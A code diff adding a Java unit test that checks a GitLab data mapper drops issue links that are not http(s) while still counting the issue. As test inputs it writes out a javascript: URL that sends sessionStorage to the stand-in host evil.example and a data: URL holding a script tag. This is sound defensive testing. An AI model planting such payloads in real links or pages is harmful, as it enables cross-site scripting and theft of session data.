@@ -296,4 +296,24 @@ class GitlabMapperTest {
         DevlakeCsv.read("devlake/gitlab/raw_tables/_raw_gitlab_api_pipeline.csv").forEach(r ->
                 assertThat(mapper.restPipeline("gitlab-org/gitlab-test", r.data()).events()).isEmpty());
     }
+
+    /** Issue 21: a link the dashboard would open must be http(s); the issue itself still counts. */
+    @Test
+    void anIssueWhoseUrlIsNotHttpIsMappedWithoutALink() {
+        ObjectNode hook = (ObjectNode) RealData.json(WEBHOOKS + "/go-gitlab-testdata/issue.json");
+        ((ObjectNode) hook.get("object_attributes")).put("url", "javascript:fetch('//evil.example/'+sessionStorage)");
+        Mapping m = MAPPER.mapWebhook("Issue Hook", hook);
+        JsonNode upsert = m.events().stream().filter(e -> e.get("type").asText().equals("workitem.upserted"))
+                .findFirst().orElseThrow();
+        assertThat(upsert.at("/data").has("url")).isFalse();
+        assertThat(m.skipped()).anyMatch(r -> r.startsWith(upsert.get("id").asText() + ": url left out"));
+
+        ObjectNode rest = issue1().deepCopy();
+        rest.put("web_url", "data:text/html,<script>alert(1)</script>");
+        JsonNode restUpsert = MAPPER.restIssue(rest).events().get(0);
+        assertThat(restUpsert.get("type").asText()).isEqualTo("workitem.upserted");
+        assertThat(restUpsert.at("/data").has("url")).isFalse();
+        assertThat(MAPPER.restIssue(issue1()).events().get(0).at("/data/url").asText()).startsWith("https://gitlab.com/");
+    }
+
 }
